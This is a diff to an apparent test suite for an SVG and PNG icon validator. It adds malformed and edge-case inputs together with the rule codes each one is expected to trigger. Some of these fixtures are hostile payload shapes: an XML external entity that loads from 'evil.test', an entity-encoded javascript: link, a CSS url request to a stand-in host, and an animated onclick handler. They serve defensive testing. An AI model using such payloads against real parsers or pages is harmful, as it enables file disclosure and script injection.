@@ -166,7 +166,118 @@ MUTANTS |= {
     'a note in a png': (png(before=chunk(b'tEXt', b'a\0b')), PNG, {'ICO022'}),
 }
 
+# What is wrong by as little as can be, or where nobody looks.
+MUTANTS |= {
+    'one byte too many': (
+        svg(PATH + ' ' * (65_537 - len(GOOD))),
+        None,
+        {'ICO005'},
+    ),
+    'a jpeg declared png': (b'\xff\xd8\xff\xe0\0\x10JFIF', PNG, {'ICO006'}),
+    'latin-1': (
+        svg(f'<title>caf\xe9</title>{PATH}').encode('latin-1'),
+        None,
+        {'ICO010'},
+    ),
+    'svg of another namespace': (
+        GOOD.replace('2000/svg', '1999/xhtml'),
+        None,
+        {'ICO010'},
+    ),
+    'an external subset': (
+        '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.test/"> %x;]>'
+        + GOOD,
+        None,
+        {'ICO011'},
+    ),
+    'a pattern of itself': (
+        svg(
+            '<pattern id="a" width="1" height="1"><rect width="1" height="1" '
+            'fill="url(#a)"/></pattern><path fill="url(#a)" d="M0 0h8v8z"/>'
+        ),
+        None,
+        {'ICO012'},
+    ),
+    'a script in letters of its own': (
+        svg(f'<a href="java&#115;cript&#58;x()">{PATH}</a>'),
+        None,
+        {'ICO020'},
+    ),
+    'a request in a style': (
+        svg(f'{PATH}<path style="fill:url(//evil.test/#a) #06c" d="M0 0h8"/>'),
+        None,
+        {'ICO020'},
+    ),
+    'a handler set later': (
+        svg(
+            '<path fill="#06c" d="M0 0h8v8H0z">'
+            '<set attributeName="onclick" to="x()"/></path>'
+        ),
+        None,
+        {'ICO020'},
+    ),
+    'a turned png': (
+        png(
+            before=chunk(
+                b'eXIf',
+                b'MM\0*\0\0\0\x08\0\1\1\x12\0\3\0\0\0\1\0\6' + bytes(6),
+            )
+        ),
+        PNG,
+        {'ICO021'},
+    ),
+    'an attribute of an editor': (
+        svg(PATH, 'viewBox="0 0 8 8" xmlns:i="urn:i" i:zoom="2"'),
+        None,
+        {'ICO022'},
+    ),
+    'one row of pixels too many': (png(2_049, 2_049), PNG, {'ICO030'}),
+    'one frame after the picture': (
+        png(before=chunk(b'fdAT', bytes(4))),
+        PNG,
+        {'ICO031'},
+    ),
+    'a line behind it': (png(after=b'\n'), PNG, {'ICO032'}),
+    'a filter that is none': (
+        png(pixels=b'\0' + BLUE * 2 + b'\5' + BLUE * 2),
+        PNG,
+        {'ICO033'},
+    ),
+    'a shape used of nothing': (
+        svg(f'<g id="a"/><defs>{PATH}</defs><use href="#a"/>'),
+        None,
+        {'ICO040'},
+    ),
+    'a little too wide': (svg(PATH, 'viewBox="0 0 24.1 8"'), None, {'ICO041'}),
+    'almost white': (
+        svg('<style>path{fill:#f4f4f4}</style><path d="M0 0h8v8z"/>'),
+        None,
+        {'ICO042'},
+    ),
+    'almost black': (
+        svg('<g stroke="#111" fill="none"><path d="M0 0h8v8z"/></g>'),
+        None,
+        {'ICO043'},
+    ),
+}
+
 SHELF = {
+    'as large as can be': (svg(PATH + ' ' * (65_536 - len(GOOD))), None),
+    'as many pixels as can be': (png(2_048, 2_048), PNG),
+    'an upright png': (png(before=chunk(b'gAMA', b'\0\0\xb1\x8f')), PNG),
+    'a clip and a nested document': (
+        svg(
+            '<clipPath id="c"><circle cx="4" cy="4" r="4"/></clipPath>'
+            f'<svg width="8" height="8" clip-path="url(#c)">{PATH}</svg>'
+        ),
+        None,
+    ),
+    'only a letter': (svg('<text y="8" fill="#06c">i</text>'), None),
+    'one by one': (
+        svg('<path fill="#06c" d="M0 0h1v1z"/>', 'viewBox="0 0 1 1"'),
+        None,
+    ),
+    'groups of opacity': (svg(f'<g opacity=".3">{PATH}</g>'), None),
     'three to one': (svg(PATH, 'viewBox="0 0 24 8"'), None),
     'white on blue': (
         svg(f'{PATH}<path fill="#fff" d="M1 1h2v2z"/>'),
@@ -199,6 +310,22 @@ SHELF = {
     ),
     'png': (png(), PNG),
     'a png of three to one': (png(6, 2), PNG),
+    'only markers': (
+        svg(
+            f'<marker id="m">{PATH}</marker>'
+            '<path fill="none" d="M1 1h4" marker-end="url(#m)"/>'
+        ),
+        None,
+    ),
+    'a shadow of faint shapes': (
+        svg(
+            ''.join(
+                f'<circle r="{r}" fill="#06c" fill-opacity=".08"/>'
+                for r in range(1, 9)
+            )
+        ),
+        None,
+    ),
     'the colour of the page': (
         svg('<path fill="currentColor" d="M0 0h8v8H0z"/>'),
         None,
